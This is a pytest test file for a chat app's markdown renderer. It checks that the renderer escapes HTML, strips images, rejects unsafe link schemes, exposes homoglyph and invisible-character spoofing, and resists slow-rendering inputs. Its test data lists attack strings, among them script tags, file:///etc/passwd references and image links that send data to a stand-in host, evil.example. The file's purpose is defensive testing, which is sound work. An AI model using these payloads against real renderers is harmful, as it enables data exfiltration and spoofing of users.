# SPDX-License-Identifier: Apache-2.0
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop.ui.chat.markdown import MAX_CHARACTERS, is_allowed_link, plain, render, visible
from tests.helpers.cost import cost

TAGS = re.compile(r"<(/?)([a-z0-9]+)([^>]*)>")
ALLOWED = {
    "p",
    "br",
    "b",
    "i",
    "s",
    "code",
    "pre",
    "a",
    "ul",
    "ol",
    "li",
    "hr",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "tr",
    "th",
    "td",
    "sup",
    "sub",
    "span",
}


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("a *b* **c** ~~d~~ `e`", "<p>a <i>b</i> <b>c</b> <s>d</s> <code>e</code></p>"),
        ("one\ntwo", "<p>one<br>two</p>"),
        ("## Head", "<h2>Head</h2>"),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("3. a", '<ol start="3"><li>a</li></ol>'),
        ("[x](https://a.org/?b=1&c=2)", '<p><a href="https://a.org/?b=1&amp;c=2">x</a></p>'),
        ("<https://a.org>", '<p><a href="https://a.org">https://a.org</a></p>'),
        ("***", "<hr>"),
        ("- [ ] a\n- [x] b", '<ul><li class="unchecked">a</li><li class="checked">b</li></ul>'),
        ("[ ] a", "<p>[ ] a</p>"),
        ("see[^1]", "<p>see<sup>1</sup></p>"),
        ("[^n]: *words*", '<p class="note"><sup>n</sup> <i>words</i></p>'),
        ("$x^2$", '<p><span class="math"><i>x</i><sup>2</sup></span></p>'),
        ("\\(x\\)", '<p><span class="math"><i>x</i></span></p>'),
        ("$$\nx\n$$", '<p class="math" align="center"><i>x</i></p>'),
        ("\\[\nx\n\\]", '<p class="math" align="center"><i>x</i></p>'),
        ("$5 and $10", "<p>$5 and $10</p>"),
        ("`$x$`", "<p><code>$x$</code></p>"),
        ("a\u202eb", "<p>a⟦U+202E⟧b</p>"),
    ],
)  # fmt: skip
def test_what_is_shown(markdown: str, html: str) -> None:
    assert render(markdown) == html


def test_tables_keep_their_alignment() -> None:
    html = render("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<th align="center">a</th><th align="right">b</th>' in html
    assert '<td align="center">1</td><td align="right">2</td>' in html


HTML_ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=file:///etc/passwd>",
    '<a href="file:///etc/passwd">x</a>',
    "<style>@import url(file:///etc/hostname)</style>",
    "<iframe src=//server/share></iframe>",
    "text <b onclick=x>bold</b>",
    "<!-- hidden -->",
    "&lt;img src=x&gt;",
]


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_html_stays_text(attack: str) -> None:
    html = render(attack)
    assert {tag for _, tag, _ in TAGS.findall(html)} == {"p"}


IMAGE_ATTACKS = [
    "![secret](file:///etc/passwd)",
    "![secret](https://evil.example/x.png?q=data)",
    "![secret](//server/share/x.png)",
    "![secret](data:image/svg+xml;base64,AAAA)",
    "![secret][r]\n\n[r]: https://evil.example/x.png",
    "[![secret](https://evil.example/x.png)](https://evil.example)",
    "![a ![secret](x.png)](y.png)",
]


@pytest.mark.parametrize("attack", IMAGE_ATTACKS)
def test_images_become_their_words(attack: str) -> None:
    html = render(attack)
    assert "img" not in {tag for _, tag, _ in TAGS.findall(html)}
    assert "secret" in html


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "//server/share",
        "ms-settings:privacy",
        "data:text/html,x",
        "vbscript:x",
        "mailto:a@b.c",
        "https://",
        "http:\\\\server\\share",
        "https://a.org/\u202etxt.exe",
        "x.html",
    ],
)
def test_other_links_are_no_links(address: str) -> None:
    assert not is_allowed_link(address)
    assert "<a " not in render(f"[x](<{address}>)")


def test_a_host_with_strange_letters_shows_its_true_form() -> None:
    assert 'href="https://xn--' in render("[x](https://\u200ba.org)")
    assert 'href="https://xn--' in render("[apple.com](https://аpple.com)")  # a Cyrillic а


def test_a_link_cannot_hide_behind_invisible_letters() -> None:
    assert visible("pay\u202epal\u200b.com") == "paypal.com"
    assert "\u202e" not in render("[pay\u202epal](https://evil.example)")


@given(st.text(alphabet="ab $^<>&\"'![]()`*_~#|-:\n/\\.h\u202e1", max_size=120))
def test_only_the_whitelist_comes_out(text: str) -> None:
    for _, tag, attributes in TAGS.findall(render(text)):
        assert tag in ALLOWED
        assert re.fullmatch(
            r'|( (href="https?://[^"<>]*"|start="\d+"|align="(left|right|center)"'
            r'|class="(grid|quote|bar|words|math|note|checked|unchecked)"|cellspacing="0"))*',
            attributes,
        )


@pytest.mark.parametrize(
    ("piece", "count"),
    [("[", 20_000), ("*a _b ", 3_000), (">", 20_000), ("[a](b", 4_000), ("![a](", 4_000),
     ("|a", 10_000), ("&#1", 6_000), ("- ", 10_000), ("\\\\(a ", 4_000), ("$a ", 6_000),
     ("[^a]: ", 3_000), ("`a", 10_000), ("<http://", 2_500)],
)  # fmt: skip
def test_bombs_burn_out_quickly(piece: str, count: int) -> None:
    """Four times the length takes about four times as long; sixteen times would be a bomb."""
    quarter_s = seconds_to_render(piece * (count // 4))
    assert seconds_to_render(piece * count) < 8 * quarter_s + 0.02


def seconds_to_render(text: str) -> float:
    taken = []
    for _ in range(3):
        with cost() as rendered:
            render(text)
        taken.append(rendered.seconds)
    return min(taken)


def test_what_is_too_long_is_shown_plain() -> None:
    text = "*a* <b>" + "x" * MAX_CHARACTERS
    assert render(text) == plain(text)
    assert render(text).startswith("<p>*a* &lt;b&gt;x")
